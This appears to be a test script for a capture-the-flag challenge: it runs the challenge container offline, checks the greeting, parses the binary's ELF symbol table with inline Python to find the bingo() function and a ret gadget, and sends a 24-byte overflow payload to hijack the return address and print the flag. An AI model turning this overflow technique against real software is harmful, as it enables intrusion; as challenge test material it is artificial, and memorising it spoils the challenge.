#!/bin/sh
# a player who connects is greeted, and the overflow of the task calls the function that shows the flag
set -e
container=$(docker run --detach --network none "$IMAGE")
trap 'docker rm --force "$container" >/dev/null' EXIT
play() {
    for _ in 1 2 3 4 5 6 7 8 9; do
        docker exec "$container" bash -c "{ printf '$1'; sleep 1; } | timeout 4 socat - tcp:127.0.0.1:8080" 2>/dev/null && return
        sleep 0.5
    done
}
play 'hello\n' | grep -q 'Can you control my legs?'
# the address of bingo(), behind 24 bytes; and a ret before it, that the stack is as system() wants it
docker cp --quiet "$container:/home/ctf/pwn" - | tar -xO > "/tmp/pwn.$$"
bingo=$(python3 - "/tmp/pwn.$$" <<'P'
import struct, sys
data = open(sys.argv[1], "rb").read()
start, = struct.unpack_from("<Q", data, 40)
size, count = struct.unpack_from("<HH", data, 58)
parts = [struct.unpack_from("<IIQQQQIIQQ", data, start + i * size) for i in range(count)]
for part in parts:
    if part[1] == 2:
        names = parts[part[6]][4]
        for at in range(part[4], part[4] + part[5], 24):
            name, _, _, _, value, _ = struct.unpack_from("<IBBHQQ", data, at)
            if data[names + name:].startswith(b"bingo\0"):
                at_ret = data.index(b"\xc3", 0x1000) + 0x400000
                print("".join(f"\\x{byte:02x}" for byte in struct.pack("<QQ", at_ret, value)))
P
)
rm "/tmp/pwn.$$"
play "AAAAAAAAAAAAAAAAAAAAAAAA$bingo" | grep -q -i '{'
